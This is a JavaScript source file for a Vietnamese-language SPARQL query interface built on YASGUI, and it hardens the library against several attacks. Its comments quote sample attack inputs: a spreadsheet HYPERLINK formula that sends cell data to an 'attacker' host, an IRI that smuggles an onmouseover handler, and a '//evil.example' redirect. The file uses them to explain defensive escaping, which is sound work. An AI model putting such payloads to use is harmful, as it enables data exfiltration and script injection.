// Query UI: YASGUI on our own /sparql, with the queries/ library as examples.
// No inline script (the page's CSP forbids it): the library comes in a JSON <script> block.
(function () {
  "use strict";
  const library = JSON.parse(document.getElementById("query-library").textContent);
  // read before YASGUI starts: it takes the URL fragment for its own settings and clears it
  const linked = new URLSearchParams(window.location.hash.slice(1));
  const endpoint = new URL("/sparql", window.location.href).href;
  const root = document.getElementById("yasgui");
  // The result table speaks Vietnamese (DataTables' words; the controls are renamed below).
  Object.assign(Yasgui.Yasr.plugins.table.defaults.tableConfig.language, {
    emptyTable: "Không có kết quả (no results)", zeroRecords: "Không có dòng nào khớp (no matching rows)",
    info: "Dòng _START_–_END_ / _TOTAL_", infoEmpty: "0 dòng", infoFiltered: "(lọc từ _MAX_ dòng)",
    lengthMenu: "_MENU_ dòng mỗi trang", search: "Tìm:",
    paginate: { first: "«", last: "»", next: "›", previous: "‹" },
  });
  // An IRI in the result table as a link made here, every character escaped: YASR's own puts the
  // IRI into href='…' as it is, and an IRI may hold a quote (an update may store
  // <http://x/'onmouseover='…'>): the quote closed the attribute and the rest became attributes
  // (DOMPurify then dropped the handlers, not the others).  Only http(s) IRIs are links.
  const ESCAPES = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
  const escapeHtml = (text) => String(text).replace(/[&<>"']/g, (c) => ESCAPES[c]);
  Yasgui.Yasr.plugins.table.prototype.getUriLinkFromBinding = function (binding, prefixes) {
    const iri = String(binding.value);
    let shown = iri;
    let prefixed = false;
    for (const [prefix, namespace] of Object.entries(prefixes || {})) {
      if (iri.startsWith(namespace)) {
        shown = `${prefix}:${iri.slice(namespace.length)}`;
        prefixed = true;
        break;
      }
    }
    const bare = prefixed || this.persistentConfig.compact;
    const target = this.config.openIriInNewWindow ? ' target="_blank" rel="noopener noreferrer"' : "";
    const link = /^https?:\/\//i.test(iri)
      ? `<a class="iri"${target} href="${escapeHtml(iri)}">${escapeHtml(shown)}</a>`
      : `<span class="iri">${escapeHtml(shown)}</span>`;
    return bare ? link : `&lt;${link}&gt;`;
  };
  // The result table's "download" is a CSV made here: YASR's own wrote each value as it was, and
  // Excel evaluates a cell opening with = + - @ (a document's text, or a shared link's VALUES,
  // '=HYPERLINK("http://attacker/?d="&A3,"…")' a live link).  Such a cell opens with an apostrophe
  // unless it is a signed number or a sign alone, as the server's CSV exports do
  // (queries._csv_text), and the file opens with a byte-order mark so that Excel reads Vietnamese.
  const FORMULA_OPENER = /^[=+\-@\t\r\0]/;
  const SIGNED_NUMBER = /^[+-](?:\d+(?:[.,]\d+)*%?)?$/;
  function csvCell(value) {
    let text = String(value);
    if (FORMULA_OPENER.test(text) && !SIGNED_NUMBER.test(text)) text = "'" + text;
    return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
  }
  function resultsCsv(results) {
    const json = results && results.getAsJson();
    if (!json || !json.head || !json.results) return "";
    const vars = json.head.vars;
    const lines = [vars.map(csvCell).join(",")];
    for (const row of json.results.bindings) {
      lines.push(vars.map((name) => csvCell(row[name] ? row[name].value : "")).join(","));
    }
    return "\ufeff" + lines.join("\r\n") + "\r\n";
  }
  Yasgui.Yasr.plugins.table.prototype.download = function (name) {
    return {
      getData: () => resultsCsv(this.yasr.results),
      contentType: "text/csv;charset=utf-8",
      title: "Tải kết quả (download the result)",
      filename: `${name || "queryResults"}.csv`,
    };
  };

  // A shared link (YASGUI's own: /sparql-ui#query=…&endpoint=…&headers=…) gives its query text
  // alone.  YASGUI took the link's endpoint, method, headers and parameters as they were and ran
  // the query at once: anyone's link sent "Authorization: Bearer <guess>" from the browser of
  // whoever opened it (same origin, so CORS did not stop it), a wrong token counted against that
  // visitor's address, and the headers became the defaults of every later tab (the link's config
  // is YASGUI's own requestConfig object).  Everything but the query is put back as this UI sets it.
  const requestDefaults = { ...Yasgui.defaults.requestConfig, endpoint: endpoint, method: "POST" };
  function onlyTheQuery(config) {
    for (const [key, value] of Object.entries(requestDefaults)) {
      config.requestConfig[key] = Array.isArray(value) ? [] : value && typeof value === "object" ? {} : value;
    }
    config.yasr.settings = { selectedPlugin: "table", pluginsConfig: {} };
    return config;
  }
  const yasgui = new Yasgui(root, {
    requestConfig: { endpoint: endpoint, method: "POST" },
    populateFromUrl: onlyTheQuery,
    copyEndpointOnNewTab: true,
    endpointCatalogueOptions: { getData: () => [{ endpoint: endpoint }] },
    // offline: no prefix.cc / LOV look-ups, only the local autocompleters
    yasqe: { autocompleters: ["prefixes", "variables"] },
    persistenceId: "policy-graph-yasgui",
  });
  window.policyGraphYasgui = yasgui;

  // Tables open in YASR's "simple view" (values without datatype IRIs, which legal staff do
  // not need to read) unless the user has chosen otherwise in this tab.
  function simpleView(tab) {
    const yasr = tab && tab.getYasr();
    if (yasr && !yasr.config.plugins.table.dynamicConfig) yasr.storePluginConfig("table", { compact: true });
  }
  simpleView(yasgui.getTab());
  yasgui.on("tabSelect", (_yasgui, id) => simpleView(yasgui.getTab(id)));
  const select = document.getElementById("example");
  const description = document.getElementById("example-description");
  const form = document.getElementById("params");
  const fields = document.getElementById("param-fields");
  const error = document.getElementById("param-error");

  // Suggestions for the parameters people fill most: document symbols and agency names, read
  // from the graph once (a datalist: the browser filters them as the user types).
  const SUGGESTIONS = {
    doc: { list: "doc-suggestions", query:
      "SELECT DISTINCT ?v WHERE { ?d a <http://data.europa.eu/eli/ontology#LegalResource> ; " +
      "<http://data.europa.eu/eli/ontology#id_local> ?v } ORDER BY ?v" },
    agency: { list: "agency-suggestions", query:
      "SELECT DISTINCT ?v WHERE { ?a a <http://www.w3.org/ns/org#Organization> ; " +
      "<http://www.w3.org/2004/02/skos/core#prefLabel> ?v FILTER(LANG(?v) = \"vi\") } ORDER BY ?v" },
  };
  async function loadSuggestions() {
    for (const { list, query } of Object.values(SUGGESTIONS)) {
      const datalist = document.createElement("datalist");
      datalist.id = list;
      document.body.append(datalist);
      const response = await fetch(`/sparql?query=${encodeURIComponent(query)}`,
                                   { headers: { Accept: "application/sparql-results+json" } });
      if (!response.ok) continue;
      for (const row of (await response.json()).results.bindings) {
        const option = document.createElement("option");
        option.value = row.v.value;
        datalist.append(option);
      }
    }
  }
  loadSuggestions().catch(() => {});  // suggestions are a convenience; the form works without them

  // One labelled input per parameter; text goes in through textContent/value only.
  function paramFields(q) {
    fields.replaceChildren();
    for (const p of q.params) {
      const label = document.createElement("label");
      label.className = "param";
      const name = document.createElement("span");
      name.className = "param-name";
      name.textContent = p.name + (p.required ? " *" : "");
      const input = document.createElement("input");
      input.name = p.name;
      if (SUGGESTIONS[p.name]) input.setAttribute("list", SUGGESTIONS[p.name].list);
      input.required = p.required;
      input.placeholder = p.description;
      input.title = p.description;
      label.append(name, input);
      fields.append(label);
    }
    form.hidden = q.params.length === 0;
    error.hidden = true;
  }

  function load(name) {
    const q = library.find((item) => item.name === name);
    if (!q) return;
    description.textContent = q.description;
    paramFields(q);
    const tab = yasgui.getTab();
    tab.setQuery(q.text);
    if (tab.setName) tab.setName(q.name);
  }

  // The server binds the values (a symbol such as "Nghị quyết 29" becomes the document's IRI,
  // as on the command line); the bound query lands in the editor and runs there.
  async function bindAndRun(event) {
    event.preventDefault();
    const params = new URLSearchParams(new FormData(form));
    // the query and its values are a link people can share: /#doc=29-NQ%2FTW&q=chain-down
    history.replaceState(null, "", `#${new URLSearchParams([...params, ["q", select.value]])}`);
    const response = await fetch(`/api/queries/${encodeURIComponent(select.value)}?${params}`,
                                 { headers: { Accept: "application/json" } });
    const body = await response.json().catch(() => ({ error: response.statusText }));
    if (!response.ok) {
      error.textContent = body.error || response.statusText;
      error.hidden = false;
      return;
    }
    error.hidden = true;
    const tab = yasgui.getTab();
    simpleView(tab);
    tab.setQuery(body.query);
    tab.query().catch(() => {});  // YASR shows the endpoint's error itself
  }

  // The graph's IRIs in result tables open their page on this server, not on the public base;
  // only on this server: <base//evil.example/…> cut to '//evil.example/…' is another host.
  root.addEventListener("click", (event) => {
    const link = event.target.closest("a.iri");
    if (!link || !link.href.startsWith(root.dataset.base)) return;
    const target = new URL("/" + link.href.slice(root.dataset.base.length), window.location.href);
    if (target.origin !== window.location.origin) return;  // followed as the IRI it is
    event.preventDefault();
    window.location.assign(target.href);
  });

  // Result tables in Vietnamese: controls and column names translated, dates as dd/mm/yyyy,
  // and the graph's IRIs shown by their labels (asked from /api/labels; the link stays the IRI).
  const CONTROLS = { "Simple view": "Dạng gọn (simple view)", "Ellipse": "Rút gọn (ellipse)",
                     "Show all": "Hiện tất cả (show all)", "Table": "Bảng (table)", "Response": "Phản hồi (response)",
                     "Page size:": "Số dòng (page size):", "All": "Tất cả (all)" };
  const COLUMNS = { doc: "văn bản", number: "số ký hiệu", type: "loại", issuer: "cơ quan ban hành",
    date: "ngày", implements: "triển khai", depth: "cấp", level: "cấp", task: "nhiệm vụ", label: "mục",
    text: "nội dung", lead: "chủ trì", support: "phối hợp", deadline: "thời hạn", due: "hạn cuối",
    status: "tình trạng", province: "tỉnh", jurisdiction: "địa bàn", agency: "cơ quan", plans: "kế hoạch",
    tasks: "nhiệm vụ", leadAgencies: "cơ quan chủ trì", led: "chủ trì", supported: "phối hợp",
    overdue: "quá hạn", title: "trích yếu", cited: "văn bản được trích", citing: "văn bản trích dẫn",
    topResolution: "nghị quyết gốc", indicator: "chỉ tiêu", measure: "chỉ tiêu", target: "mục tiêu",
    file: "tệp", quote: "nguyên văn", fact: "dữ kiện", count: "số lượng", root: "văn bản gốc" };
  const labelled = new Map();  // iri -> {vi, en} or null (no label), once answered
  const asked = new Set();
  function translate() {
    for (const input of root.querySelectorAll("input.tableFilter")) {
      input.placeholder = "Lọc kết quả (filter results)";
    }
    const words = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    for (let node = words.nextNode(); node; node = words.nextNode()) {
      if (node.parentElement.closest(".CodeMirror, tbody")) continue;  // the query text and the data stay as they are
      const text = node.textContent.trim();
      const results = /^(\d+) results? in ([\d.]+) seconds?$/.exec(text);
      if (CONTROLS[text]) node.textContent = CONTROLS[text];
      else if (results) node.textContent = `${results[1]} kết quả, ${results[2].replace(".", ",")} giây`;
    }
    for (const title of root.querySelectorAll(".yasr table thead th:not([data-translated]) .dt-column-title")) {
      const name = title.textContent.trim();
      title.closest("th").dataset.translated = "1";
      if (COLUMNS[name]) {
        title.textContent = COLUMNS[name];
        title.closest("th").title = `?${name}`;
      }
    }
    for (const value of root.querySelectorAll(".yasr table tbody .nonIri")) {
      const day = /^(\d{4})-(\d{2})-(\d{2})$/.exec(value.textContent.trim());
      if (day) value.textContent = `${day[3]}/${day[2]}/${day[1]}`;
    }
    const unknown = [];
    for (const link of root.querySelectorAll(".yasr table a.iri:not([data-labelled])")) {
      const iri = link.getAttribute("href");
      if (!iri.startsWith(root.dataset.base)) continue;
      if (labelled.has(iri)) show(link, labelled.get(iri));
      else if (!asked.has(iri) && !unknown.includes(iri)) unknown.push(iri);
    }
    if (unknown.length) fetchLabels(unknown);
  }
  function show(link, item) {
    link.dataset.labelled = "1";
    if (!item) return;
    link.title = link.getAttribute("href");
    link.textContent = item.vi || item.en;
  }
  async function fetchLabels(iris) {
    for (const iri of iris) asked.add(iri);  // asked once
    for (let i = 0; i < iris.length; i += 50) {
      const chunk = iris.slice(i, i + 50);
      const response = await fetch(`/api/labels?${new URLSearchParams(chunk.map((iri) => ["iri", iri]))}`,
                                   { headers: { Accept: "application/json" } });
      const found = response.ok ? await response.json() : {};
      for (const iri of chunk) labelled.set(iri, found[iri] || null);
    }
    schedule();
  }
  let pending = false;
  const observer = new MutationObserver(schedule);
  function schedule() {
    if (pending) return;
    pending = true;
    requestAnimationFrame(() => {
      pending = false;
      observer.disconnect();
      try { translate(); } finally { observer.observe(root, { childList: true, subtree: true }); }
    });
  }
  observer.observe(root, { childList: true, subtree: true });

  select.addEventListener("change", () => load(select.value));
  form.addEventListener("submit", bindAndRun);

  // a shared link opens its query filled in and run
  if (linked.get("q") && library.some((item) => item.name === linked.get("q"))) {
    select.value = linked.get("q");
    load(select.value);
    for (const input of fields.querySelectorAll("input")) input.value = linked.get(input.name) || "";
    if (!form.hidden) form.requestSubmit();
  }
})();
